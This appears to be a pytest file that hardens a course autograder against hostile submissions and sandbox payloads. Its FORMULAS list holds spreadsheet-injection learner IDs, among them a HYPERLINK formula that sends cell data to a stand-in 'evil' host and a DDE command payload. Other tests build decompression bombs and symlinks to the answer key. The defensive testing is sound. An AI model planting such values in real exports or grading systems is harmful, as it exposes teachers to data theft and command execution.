"""Issue 19 (grader, third edition): hostile files and values that need no sandbox to attack.

Fast tier (the two nbgrader-database tests: slow): everything here runs in the trusted process only (no bubblewrap, no learner code):
what the grader decodes from a sandbox (class 2), the files of a submission the nbgrader export
reads (class 3), the outputs a teacher opens (class 4) and notebooks that are not notebooks
(class 7). Each test failed on the grader before issue 19 (see the commit message).
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import zipfile
from contextlib import contextmanager
from pathlib import Path

import pytest
import torch

from course_grader import protocol
from course_grader.gradebook import csv_text, safe_name, write_gradebook, write_lms_csv
from course_grader.nbgrader_export import NbgraderCourse, export_to_nbgrader
from course_grader.notebook import Assignment
from course_grader.runner import NotebookResult, SubmissionResult, grade_submission
from course_grader.runner import TestOutcome as Outcome
from course_tools.grading_dev.points import assignment_points

TIER = "fast"  # course_tools/tiers.py

ROOT = Path(__file__).resolve().parents[1]
SOLUTION = ROOT / "solutions" / "lesson03_scoring"
RELEASED = ROOT / "exercises" / "lesson03_scoring"


@contextmanager
def _deadline(seconds: int):
    """Fail (instead of hanging the suite) when the code under test does not return in time."""
    def boom(signum, frame):
        raise TimeoutError(f"did not return within {seconds} s")
    old = signal.signal(signal.SIGALRM, boom)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


# -- class 7: invalid notebooks are "invalid notebook", never "grader error" --------------------

@pytest.mark.parametrize("kind", ["deep", "digits", "deep_metadata"])
def test_odd_json_is_an_invalid_notebook_not_a_grader_error(tmp_path, kind):
    assignment = Assignment.load(SOLUTION)
    nb_name = next(iter(assignment.notebooks))
    learner = tmp_path / "eve" / f"{nb_name}.ipynb"
    learner.parent.mkdir()
    if kind == "deep":
        learner.write_text("[" * 100_000 + "]" * 100_000)
    elif kind == "digits":
        learner.write_text('{"cells": [], "metadata": {"x": ' + "9" * 5000 + "}}")
    else:  # parses (below the recursion limit), then would be walked by later code
        learner.write_text('{"cells": [], "metadata": {"x": ' + "[" * 900 + "]" * 900 + "}}")
    res = grade_submission(assignment, "eve", {nb_name: learner})
    assert res.status == "invalid notebook", (res.status, res.notebooks[0].notes)
    assert res.total == 0
    assert "not a valid notebook" in " ".join(res.notebooks[0].notes)


# -- class 2: the trusted side bounds what it decodes -----------------------------------------

def _raw_payload(control: bytes, values: bytes = b"") -> bytes:
    """A payload as a rewritten sandbox could write it: JSON length, JSON, values archive."""
    return len(control).to_bytes(4, "big") + control + values


def _saved(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


@pytest.mark.slow  # 0.13 s of CPU (a fast test stays under 0.1 s: course_tools/tiers.py)
def test_shared_references_do_not_expand_in_decode():
    leaf: list = [0.0]
    value: list = leaf
    for _ in range(4):  # 1000**4 nodes by reference, a few kilobytes in a pickle
        value = [value] * 1000
    shared = _saved([value])
    assert len(shared) < 100_000
    with _deadline(20):
        # the values archive holds leaves only: a container there (which could share) is refused
        with pytest.raises(protocol.ProtocolError, match="not a list of leaves|among the values"):
            protocol.unpack(_raw_payload(b'{"__t":"leaf","i":0}', shared))
        # JSON cannot share, so many nodes cost as many bytes, and the decode budget stops them
        many = _raw_payload(b"[" + b",".join([b"0"] * (protocol.MAX_NODES + 10)) + b"]")
        with pytest.raises(protocol.ProtocolError, match="parts"):
            protocol.decode(protocol.unpack(many), None)
        # one tensor named over and over counts each time
        refs = b"[" + b",".join([b'{"__t":"leaf","i":0}'] * 300) + b"]"
        with pytest.raises(protocol.ProtocolError, match="bytes"):
            protocol.decode(protocol.unpack(_raw_payload(refs, _saved([torch.zeros(2**20)]))), None)


def test_malformed_frames_are_refused_not_crashed_on():
    for payload in (b"", b"\x00\x00\x00\x09{}", _raw_payload(b"{"), _raw_payload(b"\xff"),
                    _raw_payload(b'{"__t":"leaf","i":3}', _saved([1.5])), _raw_payload(b'{"__t":"leaf","i":0}'),
                    _raw_payload(b'{"__t":"tuple","v":1}'), _raw_payload(b"[" * 100_000 + b"]" * 100_000),
                    _raw_payload(b"1", _saved({"a": torch.ones(1)})), _raw_payload(b"1", b"PK not an archive")):
        with pytest.raises(protocol.ProtocolError):
            protocol.unpack(payload)


def test_a_tensor_that_describes_more_than_it_stores_is_refused():
    big = torch.zeros(1).expand(100_000, 100_000)  # 10**10 elements over one stored value
    payload = protocol.pack(big)
    assert len(payload) < 100_000
    with pytest.raises(protocol.ProtocolError, match="bytes"):
        protocol.decode(protocol.unpack(payload[protocol.header_size():]), None)


@pytest.mark.slow  # 0.58 s of CPU (a fast test stays under 0.1 s: course_tools/tiers.py)
def test_a_compressed_record_is_checked_after_decompression():
    buf = io.BytesIO()
    torch.save(torch.zeros(20_000_000), buf)  # 80 MB of data: over the 64 MB message limit
    plain = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in plain.infolist():
            z.writestr(info.filename, plain.read(info.filename), compress_type=zipfile.ZIP_DEFLATED)
    archive = out.getvalue()
    assert len(archive) < protocol.MAX_MESSAGE_BYTES // 100  # passes the check on the compressed size
    with pytest.raises(protocol.ProtocolError, match="compressed"):
        protocol.unpack(_raw_payload(b'{"__t":"leaf","i":0}', archive))


def test_ordinary_results_still_decode():
    value = {"__t": "dict", "ordered": False, "items": [["w", torch.ones(3, 4)], ["n", [1, 2.5, "x"]]]}
    payload = protocol.pack(value)
    got = protocol.decode(protocol.unpack(payload[protocol.header_size():]), None)
    assert torch.equal(got["w"], torch.ones(3, 4)) and got["n"] == [1, 2.5, "x"]
    # values JSON cannot hold exactly travel as leaves; tuples stay tuples, lone surrogates stay
    odd = (b"\x00raw", 1 + 2j, 2**70, float("inf"), -0.0, torch.int8, torch.Size([2, 3]), "jos\udce9", None, True)
    back = protocol.decode(protocol.unpack(protocol.pack([odd, ("x",)])[protocol.header_size():]), None)
    assert back == [odd, ("x",)] and [type(v) for v in back[0]] == [type(v) for v in odd]
    assert str(back[0][4]) == "-0.0"


def test_one_encoder_for_both_sides():
    """The sandbox and the grader encode with protocol.encode; no second encoder is left."""
    import inspect

    import numpy as np

    from course_grader import rpc, sandbox_main
    handles = []
    wire = protocol.encode({"a": (np.arange(3), np.float32(2.5), slice(1, None), ...), "o": object()},
                           lambda obj: handles.append(obj) or {"__t": "handle", "id": len(handles)})
    assert len(handles) == 1 and wire["items"][1][1] == {"__t": "handle", "id": 1}
    got = protocol.decode(protocol.unpack(protocol.pack(wire)[protocol.header_size():]), lambda d: ("proxy", d["id"]))
    arr, scalar, sl, ell = got["a"]
    assert arr.tolist() == [0, 1, 2] and scalar == 2.5 and sl == slice(1, None) and ell is Ellipsis
    assert got["o"] == ("proxy", 1)
    sources = inspect.getsource(sandbox_main) + inspect.getsource(rpc)
    assert "protocol.encode(" in inspect.getsource(sandbox_main.Server.encode)
    assert "torch.from_numpy" not in sources and '"__t": "ndarray"' not in sources


# -- class 4: outputs a teacher opens --------------------------------------------------------

def _result(student: str, total: float = 1.0, assignment: str = "lesson03_scoring") -> SubmissionResult:
    test = Outcome("t1", "t1", total, 1.0, total == 1.0, "" if total == 1.0 else "wrong")
    return SubmissionResult(student, assignment, "ok", total, 1.0, [NotebookResult("scoring", "ok", [test])])


FORMULAS = ["=HYPERLINK(\"http://evil/\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1",
            "\r=1", "\uff1d1+1"]


def test_learner_ids_cannot_be_spreadsheet_formulas(tmp_path):
    results = [_result(s) for s in FORMULAS] + [_result("alice")]
    rows = list(csv.reader(io.StringIO(csv_text(results, ["t1"]), newline="")))[1:]
    assert len(rows) == len(FORMULAS) + 1  # a carriage return in an id splits no row
    for row in rows:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), row
        assert "\r" not in row[0] and "\n" not in row[0]
    out = tmp_path / "grades"
    write_gradebook(results, ["t1"], out / "lesson03_scoring")
    write_lms_csv(out)
    for row in list(csv.reader((out / "lms_grades.csv").open(newline="")))[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), row


def test_feedback_file_names_are_injective(tmp_path):
    students = ["b victim", "b_victim", "b/victim", "b\\victim", "B_victim", "..", ".hidden", "b~5fvictim", "b~20victim"]
    results = [_result(s, total=float(i % 2)) for i, s in enumerate(students)]
    names = {safe_name(s) for s in students}
    assert len(names) == len(students)
    paths = write_gradebook(results, ["t1"], tmp_path / "out")
    pages = sorted(paths["feedback"].iterdir())
    assert len({p.name.casefold() for p in pages}) == len(students)
    for student in students:  # each learner's page is theirs
        import html
        hits = [p for p in pages if html.escape(student) in p.read_text()]
        assert hits, student
    assert all(p.parent == paths["feedback"] for p in pages)


# -- class 3: one door for every file of a submission (nbgrader export) ------------------------

@pytest.fixture(autouse=True)
def _alembic_on_path(monkeypatch):
    """nbgrader's Gradebook runs ``alembic`` from PATH (the course config does the same)."""
    import sys
    monkeypatch.setenv("PATH", os.path.dirname(sys.executable) + os.pathsep + os.environ.get("PATH", ""))


def _course(tmp_path: Path) -> tuple[NbgraderCourse, Assignment]:
    from nbgrader.api import Gradebook
    assignment = Assignment.load(SOLUTION)
    root = tmp_path / "course"
    root.mkdir()
    db = f"sqlite:///{root / 'gradebook.db'}"
    with Gradebook(db, course_id="c") as gb:
        gb.add_assignment(assignment.name)
        for nb_name, src in assignment.notebooks.items():
            gb.add_notebook(nb_name, assignment.name)
            for t in src.tests:
                gb.add_grade_cell(t.grade_id, nb_name, assignment.name, max_score=t.points, cell_type="code")
            for w in src.written:  # the written answers, graded by hand (as nbgrader records them)
                gb.add_grade_cell(w.grade_id, nb_name, assignment.name, max_score=w.points, cell_type=w.cell_type)
                gb.add_solution_cell(w.grade_id, nb_name, assignment.name)
    return NbgraderCourse(root, "c", db, SOLUTION.parent, root / "submitted", root / "autograded",
                          root / "feedback"), assignment


def _full(assignment: Assignment, student: str, status: str = "ok", passed: bool = True) -> SubmissionResult:
    nbs = []
    for nb_name, src in assignment.notebooks.items():
        tests = [Outcome(t.grade_id, t.grade_id, t.points if passed else 0.0, t.points, passed,
                             "" if passed else f"{t.grade_id}: expected shape (2, 1, 6), got (2, 6)")
                 for t in src.tests]
        nbs.append(NotebookResult(nb_name, status, tests))
    total = sum(t.points for nb in nbs for t in nb.tests)
    return SubmissionResult(student, assignment.name, status, total, assignment.max_points, nbs)


@pytest.mark.slow  # an nbgrader gradebook database: several seconds
def test_export_survives_hostile_submission_files_and_copies_no_refused_notebook(tmp_path):
    course, assignment = _course(tmp_path)
    nb_name = next(iter(assignment.notebooks))
    honest_nb = (SOLUTION / f"{nb_name}.ipynb").read_text()
    students = {"fifo": "fifo", "garbage": "garbage", "symlink": "symlink", "stamplink": "stamplink",
                "honest": "honest", "huge": "huge"}
    for s in students:
        d = course.submitted / s / assignment.name
        d.mkdir(parents=True)
        (d / f"{nb_name}.ipynb").write_text(honest_nb.replace("BEGIN SOLUTION", "x"))
        (d / "timestamp.txt").write_text("2026-11-25 10:00:00.000000 UTC")
    sub = lambda s: course.submitted / s / assignment.name  # noqa: E731
    os.unlink(sub("fifo") / "timestamp.txt")
    os.mkfifo(sub("fifo") / "timestamp.txt")  # a blocking read would hang the whole export
    (sub("garbage") / "timestamp.txt").write_bytes(b"\xff\xfe not a time \x00" * 10)
    (sub("huge") / "timestamp.txt").write_text("2026-11-25 10:00:00 UTC" + " " * 10_000_000)
    os.unlink(sub("symlink") / f"{nb_name}.ipynb")
    os.symlink(SOLUTION / f"{nb_name}.ipynb", sub("symlink") / f"{nb_name}.ipynb")  # the answer key
    os.unlink(sub("stamplink") / "timestamp.txt")
    os.symlink(SOLUTION / f"{nb_name}.ipynb", sub("stamplink") / "timestamp.txt")
    results = [_full(assignment, s) for s in students if s != "symlink"]
    results.append(_full(assignment, "symlink", status="refused", passed=False))
    problems: list[str] = []
    with _deadline(60):
        written = export_to_nbgrader(course, assignment, results, problems)
    assert sorted(written) == sorted(students)
    assert any("fifo" in p for p in problems) and any("garbage" in p for p in problems)
    # the refused notebook (a link to the answer key) is never copied where generate_feedback reads
    assert not (course.autograded / "symlink" / assignment.name / f"{nb_name}.ipynb").exists()
    for s in ("stamplink", "fifo", "garbage", "huge"):
        for step in (course.autograded, course.feedback):
            stamp = step / s / assignment.name / "timestamp.txt"
            assert not stamp.exists() or "BEGIN HIDDEN" not in stamp.read_text(errors="replace")
    honest = (course.autograded / "honest" / assignment.name / f"{nb_name}.ipynb").read_text()
    assert json.loads(honest)["cells"]
    from nbgrader.api import Gradebook
    with Gradebook(course.db_url, course_id="c") as gb:
        sub_h = gb.find_submission(assignment.name, "honest")
        assert sub_h.score == assignment_points(SOLUTION).auto  # every test passed; written answers not yet graded


@pytest.mark.slow  # an nbgrader gradebook database: several seconds
def test_formgrader_needs_no_manual_grade_and_shows_failures(tmp_path):
    """Read the gradebook as Formgrader does (SubmittedAssignment / SubmittedNotebook
    ``needs_manual_grade``, the gradebook's submission list) after the export."""
    course, assignment = _course(tmp_path)
    nb_name = next(iter(assignment.notebooks))
    for s in ("full", "wrong"):
        d = course.submitted / s / assignment.name
        d.mkdir(parents=True)
        (d / f"{nb_name}.ipynb").write_text((RELEASED / f"{nb_name}.ipynb").read_text())
        (d / "timestamp.txt").write_text("2026-11-25 10:00:00.000000 UTC")
    export_to_nbgrader(course, assignment, [_full(assignment, "full"), _full(assignment, "wrong", passed=False)])
    from nbgrader.api import Gradebook
    with Gradebook(course.db_url, course_id="c") as gb:
        for s in ("full", "wrong"):
            sub = gb.find_submission(assignment.name, s)
            assert not sub.needs_manual_grade, s
            assert not any(nb.needs_manual_grade for nb in sub.notebooks), s
        rows = gb.submission_dicts(assignment.name)  # what Formgrader's "Manage submissions" lists
        assert rows and not any(r["needs_manual_grade"] for r in rows)
    wrong = json.loads((course.autograded / "wrong" / assignment.name / f"{nb_name}.ipynb").read_text())
    shown = [o for c in wrong["cells"] for o in c.get("outputs", []) if o.get("output_type") == "error"]
    assert shown and all("expected shape" in o["evalue"] for o in shown)
    assert "BEGIN HIDDEN TESTS" not in json.dumps(wrong)


# -- the policy: the seccomp filter by name, failing loudly; messages that say the real reason ---

def test_the_seccomp_filter_is_built_by_name_or_the_sandbox_is_refused(monkeypatch):
    from course_grader import policy, sandbox
    ok, what = policy.seccomp_support()
    if ok:
        assert "libseccomp" in what and str(len(policy.DENIED_SYSCALLS) + len(policy.ENOSYS_SYSCALLS)) in what
    monkeypatch.setattr(policy, "DENIED_SYSCALLS", policy.DENIED_SYSCALLS + ("no_such_call_19",))
    policy.seccomp_support.cache_clear()
    try:
        ok2, why = policy.seccomp_support()
        assert not ok2 and "no_such_call_19" in why  # an unknown name fails loudly, never skipped
        monkeypatch.setattr(sandbox, "bwrap_path", lambda: "/usr/bin/bwrap")
        monkeypatch.setattr(sandbox.sys, "platform", "linux")
        status = sandbox.isolation_status(refresh=True)
        assert status == (False, why)
    finally:
        policy.seccomp_support.cache_clear()
        sandbox._ISOLATION.clear()


@pytest.mark.slow  # a whole --check of lesson 3 (preflight and grading workers, unsandboxed): the slow tier
def test_a_learner_without_bubblewrap_is_never_told_about_unsafe_no_sandbox(monkeypatch, tmp_path, capsys):
    from course_grader import cli, sandbox
    monkeypatch.setattr(sandbox, "isolation_status",
                        lambda refresh=False: (False, "bubblewrap (bwrap) is not installed: " + sandbox._HOW_TO_GET))
    nb = tmp_path / "scoring.ipynb"
    nb.write_text((RELEASED / "scoring.ipynb").read_text())
    code = cli.main(["--check", str(nb)])
    out = capsys.readouterr()
    assert code in (0, 1)
    assert "--unsafe-no-sandbox" not in out.out + out.err
    assert "bubblewrap (bwrap) is not installed" in out.out  # the real reason
